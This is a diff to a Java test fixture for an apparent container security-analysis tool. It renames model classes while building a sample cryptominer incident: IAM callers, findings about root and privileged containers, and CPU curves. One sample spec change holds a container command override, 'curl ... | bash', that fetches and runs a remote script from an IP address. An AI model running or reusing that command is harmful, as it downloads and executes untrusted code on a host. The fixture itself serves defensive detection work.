@@ -9,30 +9,30 @@ import java.util.Optional;
 import java.util.OptionalDouble;
 import java.util.TreeMap;
 import org.ephemera.analyze.Analysis;
-import org.ephemera.analyze.Subject;
-import org.ephemera.analyze.model.Caller;
-import org.ephemera.analyze.model.Callers;
-import org.ephemera.analyze.model.Change;
+import org.ephemera.analyze.AnalyzedPackage;
+import org.ephemera.analyze.model.CallerSummaries;
+import org.ephemera.analyze.model.CallerSummary;
 import org.ephemera.analyze.model.Container;
-import org.ephemera.analyze.model.Elsewhere;
+import org.ephemera.analyze.model.CurrentTag;
 import org.ephemera.analyze.model.Evidence;
 import org.ephemera.analyze.model.Execution;
 import org.ephemera.analyze.model.Fact;
+import org.ephemera.analyze.model.FileLocation;
 import org.ephemera.analyze.model.Finding;
 import org.ephemera.analyze.model.Gap;
 import org.ephemera.analyze.model.Host;
 import org.ephemera.analyze.model.Indicator;
-import org.ephemera.analyze.model.Measured;
+import org.ephemera.analyze.model.MetricSubject;
 import org.ephemera.analyze.model.MinerScore;
 import org.ephemera.analyze.model.NextStep;
-import org.ephemera.analyze.model.Place;
+import org.ephemera.analyze.model.OtherRegionCalls;
 import org.ephemera.analyze.model.Platform;
 import org.ephemera.analyze.model.Privileges;
 import org.ephemera.analyze.model.Rule;
-import org.ephemera.analyze.model.Series;
 import org.ephemera.analyze.model.Severity;
 import org.ephemera.analyze.model.ShellWord;
-import org.ephemera.analyze.model.TagNow;
+import org.ephemera.analyze.model.SpecChange;
+import org.ephemera.analyze.model.TimeSeries;
 import org.ephemera.analyze.model.Verdict;
 import org.ephemera.analyze.model.Workload;
 import org.ephemera.model.Digest;
@@ -84,7 +84,7 @@ final class SampleAnalysis {
                     line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", i + 1)));
         }
         return new Analysis(
-                new Subject(SampleItems.request(this::said), SampleItems.closing(), SampleItems.seal(), SHA),
+                new AnalyzedPackage(SampleItems.request(this::said), SampleItems.closing(), SampleItems.seal(), SHA),
                 List.of(),
                 List.of(),
                 "2026.11+1a2b3c4d",
@@ -94,7 +94,7 @@ final class SampleAnalysis {
                 findings,
                 miners(),
                 changes(),
-                List.of(new TagNow(
+                List.of(new CurrentTag(
                         "shop/metrics-agent:1.9.0",
                         "sha256:" + SHA.hex(),
                         "sha256:" + "5f".repeat(32),
@@ -114,10 +114,10 @@ final class SampleAnalysis {
                         new Gap("LOG rules on audit", "its output went to a log router, and no copy was collected")));
     }
 
-    private List<Elsewhere> elsewhere() {
-        return List.of(new Elsewhere(
+    private List<OtherRegionCalls> elsewhere() {
+        return List.of(new OtherRegionCalls(
                 said("arn:aws:iam::111122223333:user/ops-hotfix"),
-                List.of(new Elsewhere.InRegion(
+                List.of(new OtherRegionCalls.InRegion(
                         said("us-west-2"),
                         3,
                         2,
@@ -129,11 +129,11 @@ final class SampleAnalysis {
                 0));
     }
 
-    private Callers callers() {
+    private CallerSummaries callers() {
         Instant last = Instant.parse("2026-11-26T11:55:13Z");
-        return new Callers(
+        return new CallerSummaries(
                 List.of(
-                        new Caller(
+                        new CallerSummary(
                                 said("arn:aws:iam::111122223333:user/ops-hotfix"),
                                 4211,
                                 12,
@@ -143,7 +143,7 @@ final class SampleAnalysis {
                                 3,
                                 BEGAN,
                                 last),
-                        new Caller("reader", 2, 0, 1, 0, List.of("ListTasks"), 0, BEGAN, last)),
+                        new CallerSummary("reader", 2, 0, 1, 0, List.of("ListTasks"), 0, BEGAN, last)),
                 1);
     }
 
@@ -185,11 +185,11 @@ final class SampleAnalysis {
     }
 
     static Evidence pointer(String item, String path) {
-        return new Evidence("data/raw/" + item + "/4bce8da1/0001.body.json", new Place.Pointer(path), SHA);
+        return new Evidence("data/raw/" + item + "/4bce8da1/0001.body.json", new FileLocation.Pointer(path), SHA);
     }
 
     private static Evidence line(String file, long number) {
-        return new Evidence(file, new Place.Line(number), SHA);
+        return new Evidence(file, new FileLocation.Line(number), SHA);
     }
 
     private List<Finding> findings() {
@@ -210,7 +210,7 @@ final class SampleAnalysis {
                                 pointer("aws.cloudtrail.events.1", "/Events/0"))
                         .at(Instant.parse("2026-11-26T11:53:13Z")),
                 Finding.of(IMAGE, "metrics-agent", said("shop/metrics-agent:1.9.0"), definition)
-                        .with(new Evidence(LOG_IN_JSON, new Place.Line("/content", 3), SHA)),
+                        .with(new Evidence(LOG_IN_JSON, new FileLocation.Line("/content", 3), SHA)),
                 Finding.of(ROOT, "checkout", "user is not set", definition),
                 Finding.of(ESCAPE, "aws-guardduty-agent", "privileged is true", definition)
                         .suppressed("known agent: GuardDuty's own container"));
@@ -309,15 +309,15 @@ final class SampleAnalysis {
     }
 
     /** What series of a container of the task are of. */
-    static Measured measured(String container) {
-        return new Measured(Measured.Level.CONTAINER, "shop", "checkout", ID_OF_TASK, container);
+    static MetricSubject measured(String container) {
+        return new MetricSubject(MetricSubject.Level.CONTAINER, "shop", "checkout", ID_OF_TASK, container);
     }
 
-    private List<Change> changes() {
+    private List<SpecChange> changes() {
         Evidence at = pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command");
         Evidence before = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/command");
         return List.of(
-                new Change(
+                new SpecChange(
                         "checkout",
                         "/containers/checkout/command",
                         "the task definition",
@@ -325,7 +325,7 @@ final class SampleAnalysis {
                         said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
                         before,
                         at),
-                new Change(
+                new SpecChange(
                         "checkout",
                         "/containers/checkout/environment/POOL",
                         "the task definition",
@@ -335,17 +335,17 @@ final class SampleAnalysis {
                         at));
     }
 
-    private static Series curve(String metric, String statistic, String unit, double low, double high) {
-        List<Series.Point> points = new ArrayList<>();
+    private static TimeSeries curve(String metric, String statistic, String unit, double low, double high) {
+        List<TimeSeries.Point> points = new ArrayList<>();
         Instant start = FROM.minus(Duration.ofDays(3)).truncatedTo(java.time.temporal.ChronoUnit.MINUTES);
         for (int i = 0; start.plusSeconds(60L * i).isBefore(TO); i++) {
             Instant time = start.plusSeconds(60L * i);
             boolean blank = i % 1440 > 900 && i % 1440 < 930;
             double value =
                     time.isBefore(BEGAN) ? low * (1 + 0.3 * Math.sin(i / 200.0) + 0.1 * Math.sin(i * 1.7)) : high;
-            points.add(new Series.Point(time, blank ? OptionalDouble.empty() : OptionalDouble.of(value)));
+            points.add(new TimeSeries.Point(time, blank ? OptionalDouble.empty() : OptionalDouble.of(value)));
         }
-        return new Series(
+        return new TimeSeries(
                 "checkout",
                 metric,
                 statistic,
@@ -364,7 +364,7 @@ final class SampleAnalysis {
                 pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4"));
     }
 
-    private static List<Series> series() {
+    private static List<TimeSeries> series() {
         return List.of(
                 curve("CpuUtilized", "Average", "None", 90, 508),
                 curve("CpuUtilized", "Maximum", "None", 130, 512),
